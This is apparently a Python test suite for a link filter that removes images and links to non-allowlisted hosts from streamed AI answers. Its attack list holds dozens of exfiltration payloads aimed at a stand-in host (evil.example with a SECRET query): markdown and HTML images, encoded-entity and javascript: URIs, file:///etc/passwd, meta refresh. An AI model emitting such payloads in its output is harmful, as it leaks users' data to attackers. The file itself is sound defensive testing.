"""What leaves in an answer: no image and no link to an unknown host, in any form, wherever the pieces are cut."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from graph.link_filter import LONGEST, HostAllowlist, LinkFilter, host_of, with_omissions
from graph.state import Language

OWN = "drive.example.com"
HOSTS = HostAllowlist([OWN, "127.0.0.1:8000", "*.wiki.example.com"])


def clean(text: str, hosts: HostAllowlist = HOSTS) -> str:
    return LinkFilter(hosts, "en").clean(text)


def in_pieces(text: str, cuts: list[int]) -> str:
    """Let the text out in pieces that end at the cuts."""
    out, begin, said = LinkFilter(HOSTS, "en"), 0, ""
    for cut in [*sorted(cuts), len(text)]:
        said += out.feed(text[begin:cut])
        begin = cut
    return said + out.end()


BARE = re.compile(r"(?:https?|ftp)://[^\s<]*\w|www\.\w[^\s<]*", re.IGNORECASE)


class Reader(HTMLParser):
    """Collects what a browser would fetch or lead to; bare web addresses are made links, as in GFM."""

    def __init__(self) -> None:
        super().__init__()
        self.addresses: list[str] = []
        self.images = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.images += tag in {"img", "image"}
        self.addresses += [value for name, value in attrs if name in {"href", "src", "srcset", "style"} and value]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.addresses += [f"http://{found}" if found[:4].lower() == "www." else found for found in BARE.findall(data)]


def shown(text: str) -> Reader:
    """Render as clients do: CommonMark with raw HTML and tables."""
    markdown = MarkdownIt("commonmark", {"html": True}).enable("table")
    markdown.validateLink = lambda _url: True  # pyright: ignore[reportAttributeAccessIssue] - not every reader has its own
    reader = Reader()
    reader.feed(markdown.render(text))
    return reader


def leads_away(address: str) -> bool:
    plain = re.sub(r"[\x00-\x20]", "", address).replace("\\", "/")
    return bool(re.match(r"//|[a-z][a-z0-9+.-]*:", plain, re.IGNORECASE)) and not plain.startswith(
        (f"https://{OWN}/", "http://127.0.0.1:8000/", "drive://")
    )


AWAY = "evil.example/x?d=SECRET"
ATTACKS = [
    f"![a](https://{AWAY})",
    f"see ![a](https://{AWAY} 'title') there",
    f"![](<https://{AWAY}>)",
    f"![a\nb](\nhttps://{AWAY}\n)",
    f"![a][r]\n\n[r]: https://{AWAY}\n",
    f"![r]\n\n[r]:\n  <https://{AWAY}> 'x'\n",
    f"> ![r]\n>\n> [r]:\n> https://{AWAY}\n",
    f"[a](https://{AWAY})",
    f"[a](//{AWAY})",
    f"[a](/\\{AWAY})",
    f"[a](\\/\\/{AWAY})",
    f"[a](https:\\/\\/{AWAY})",
    f"[a](https:{AWAY})",
    f"[a](https:/{AWAY})",
    f"[a](HTTPS://{AWAY})",
    f"[a](h&#116;tps&colon;//{AWAY})",
    f"[a](&#x2f;/{AWAY})",
    f"[a](https://{OWN}@{AWAY})",
    f"[a](https://{OWN}.{AWAY})",
    f"[a](https://{OWN}\\@{AWAY})",
    f"[a](http://{OWN}:22/{AWAY})",
    f"[a](ftp://{OWN}/{AWAY})",
    "[a](javascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](JAVASCRIPT&colon;alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html;base64,SECRET)",
    "![a](data:image/png;base64,SECRET)",
    "[a](file:///etc/passwd)",
    f"[a](mailto:a@evil.example?body=SECRET {AWAY})",
    f"[[a]](https://{AWAY})",
    f"[![a](https://{AWAY})](https://{AWAY})",
    f"[`]`](https://{AWAY})",
    f"<https://{AWAY}>",
    "<javascript:alert(1)>",
    f"https://{AWAY}",
    "http://[2001:db8::1]/x?d=SECRET",
    "see https://[::ffff:192.0.2.1]:8000/SECRET, please",
    "http://[r]: SECRET.example",
    f"drive://https://{AWAY}",
    f"https://{OWN}/)https://{AWAY}",
    f"[a](https://{OWN}/)https://{AWAY}",
    f"](![a](https://{AWAY}))",
    f"xhttps://{AWAY}",
    f"(https://{AWAY})",
    f"**https://{AWAY}**",
    f"www.{AWAY}",
    f"看https://{AWAY}。",
    f"请看[这里](https://{AWAY})，谢谢",
    f"<img src=https://{AWAY}>",
    f"<IMG SRC='//{AWAY}' />",
    f"<img\nsrc=//{AWAY}>",
    f"<img alt='>' src=//{AWAY}>",
    f"<svg><image href=//{AWAY} /></svg>",
    f"<picture><source srcset='/a 1x, //{AWAY} 2x'></picture>",
    f"<a href=https://{AWAY}>x</a>",
    f"<a title='>' href='//{AWAY}'>x</a>",
    f"<a href='//ev\til.example/{AWAY}'>x</a>",
    f"<a href='&#104;ttps://{AWAY}'>x</a>",
    f"<a\nhref='//{AWAY}'>x</a>",
    f"<b x='<a' y><a href=//{AWAY}>",
    f"<div style='background:url(//{AWAY})'>",
    f"<div style='background:\\75rl(//{AWAY})'>",
    f"<iframe src=//{AWAY}></iframe>",
    f"<link rel=stylesheet href=//{AWAY}>",
    f"<base href=//{AWAY}>",
    f"<meta http-equiv=refresh content='0;url=//{AWAY}'>",
    f"<!-- x --><img src=//{AWAY}>",
    f"`code` ![a](https://{AWAY})",
    f"| a |\n|---|\n| ![a](https://{AWAY}) |\n",
    f"- ![a](https://{AWAY})\n",
    f"!![a](https://{AWAY})",
    f"! ![a](https://{AWAY})",
    f"\\![a](https://{AWAY})",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_leads_away_and_no_image_is_shown(text: str) -> None:
    seen = shown(clean(text))
    assert [address for address in seen.addresses if leads_away(address)] == []
    assert seen.images == 0


@pytest.mark.parametrize("text", ATTACKS)
def test_a_stream_of_single_characters_says_the_same(text: str) -> None:
    assert in_pieces(text, list(range(len(text)))) == clean(text)


def test_the_oracle_of_these_tests_sees_what_is_not_cleaned() -> None:
    plain = ("[a](https://evil.example)", "https://evil.example", "<a href='//evil.example'>", "<https://evil.example>")
    assert all(any(map(leads_away, shown(text).addresses)) for text in plain)
    assert shown("![a](/x)").images == 1


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Plain words, 30 % of them: yes! See [1] and [2].",
        "纯文字：好的！见 [1]。“引用”",
        f"[a](https://{OWN}/f/1?version=2#page=3) and https://{OWN}/f/1.",
        "[a](http://127.0.0.1:8000/f/1)",
        "[a](https://de.wiki.example.com/x)",
        "[a](/f/1) [b](#top) [c](drive://files/1) drive://files/1",
        "a < b > c, x <= y, 1<2",
        "List<String> and <b>bold</b> and </b> and <br/>",
        "write to bob@example.com or <bob@example.com>",
        "f[i](x) [Note]: Important: read it\nratio 3:4, at 10:30, C:\\temp, a/b//c, and/or",
        "- [ ] open\n- [x] done\n\n```python\nx[0]: int = 5 // 2\n```\n",
        "The handbook says “16 weeks” [1].\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "🙂 مرحبا [1]",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert clean(text) == text


def test_what_is_taken_out_names_the_host_in_the_persons_language() -> None:
    text = "见[手册](https://evil.example/a?b=c)和<img src=x>"
    assert LinkFilter(HOSTS, "zh").clean(text) == "见[手册] （指向 evil.example 的链接已移除）和（图片已移除）"
    assert clean("see [it](https://evil.example/a?b=c).") == "see [it] (link to evil.example removed)."
    assert clean("see https://evil.example/a?b=c.") == "see https (link to evil.example removed)."


def test_a_host_that_is_made_of_data_is_not_named() -> None:
    said = clean(f"https://{'a1' * 40}.evil.example/")
    assert said == "https (link removed)"


def test_mail_addresses_stay_without_what_is_put_into_the_mail() -> None:
    assert clean("mailto:bob@example.com?body=SECRET") == "mailto bob@example.com"


def test_an_address_that_the_person_wrote_may_be_repeated_and_nothing_added_to_it() -> None:
    asked = HOSTS.with_addresses_in("总结 https://news.example.org/a?b=1。thanks")
    assert clean("[a](https://news.example.org/a?b=1)", asked) == "[a](https://news.example.org/a?b=1)"
    assert "SECRET" not in clean("[a](https://news.example.org/a?b=1&d=SECRET)", asked)
    assert "SECRET" not in clean("https://news.example.org/SECRET", asked)
    archived = "https://archive.example.org/2020/https://news.example.org/"
    assert clean(archived, HOSTS.with_addresses_in(f"look at {archived}")) == archived
    assert clean(archived, HOSTS) != archived
    assert clean("![a](https://news.example.org/a?b=1)", asked) == "[a](https://news.example.org/a?b=1)"


def test_what_is_too_long_to_be_waited_for_is_broken_up_and_still_comes() -> None:
    text = f"[a]({'x' * LONGEST}) and <i {'y' * LONGEST} end"
    said = in_pieces(text, list(range(0, len(text), 7)))
    assert "](" not in said
    assert said.endswith(" end")
    seen = shown(in_pieces(f"[a](https://evil.example/{'x' * 2 * LONGEST})", list(range(0, 4000, 3))))
    assert not any(map(leads_away, seen.addresses))


def test_words_are_not_held_back() -> None:
    out = LinkFilter(HOSTS, "en")
    words = [
        "Every",
        " parent",
        " may",
        " take",
        " 16",
        " weeks",
        ".",
        " 每位",
        "家长",
        "\n\n",
        "- yes",
        " h",
        " https",
    ]
    assert [out.feed(word) for word in words] == words
    assert out.end() == ""


def test_the_host_of_an_address_has_its_port() -> None:
    assert host_of("http://127.0.0.1:8000") == "127.0.0.1:8000"
    assert host_of("https://drive.example.com/x") == "drive.example.com"


PARTS = st.sampled_from(
    [
        *"![]()<>:/\\&;\"'=#\n \t.?@`*",
        *("http", "https", "://", "//", "www.", "&colon;", "&#58;", "&sol;", "javascript:", "drive://", OWN),
        *("![", "](", "]:", "[r]: ", "<img src=", "<a href=", "<b>", "evil.example", "a", "x", "中", "SECRET"),
    ]
)


def pieces() -> Iterator[st.SearchStrategy[str]]:
    yield st.lists(PARTS, max_size=25).map("".join)
    yield st.lists(st.sampled_from(ATTACKS) | PARTS, max_size=8).map("".join)


@settings(max_examples=150, deadline=None)
@given(st.one_of(*pieces()), st.lists(st.integers(0, 300), max_size=12))
def test_it_does_not_matter_where_a_text_is_cut(text: str, cuts: list[int]) -> None:
    assert in_pieces(text, [min(cut, len(text)) for cut in cuts]) == clean(text)


@settings(max_examples=150, deadline=None)
@given(st.one_of(*pieces()))
def test_however_it_is_put_together_nothing_leads_away(text: str) -> None:
    said = clean(text)
    seen = shown(said)
    assert [address for address in seen.addresses if leads_away(address)] == [], said
    assert seen.images == 0, said


@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_quotation_leaves_out_what_was_taken_out_of_it(language: Language) -> None:
    said = LinkFilter(HostAllowlist(), language).clean(
        "It lasts [12 weeks](https://evil.example/x), see https://evil.example/y."
    )
    assert with_omissions(said) == "It lasts [12 weeks] …, see …."
    assert with_omissions("Nothing (at all) was taken out.") == "Nothing (at all) was taken out."
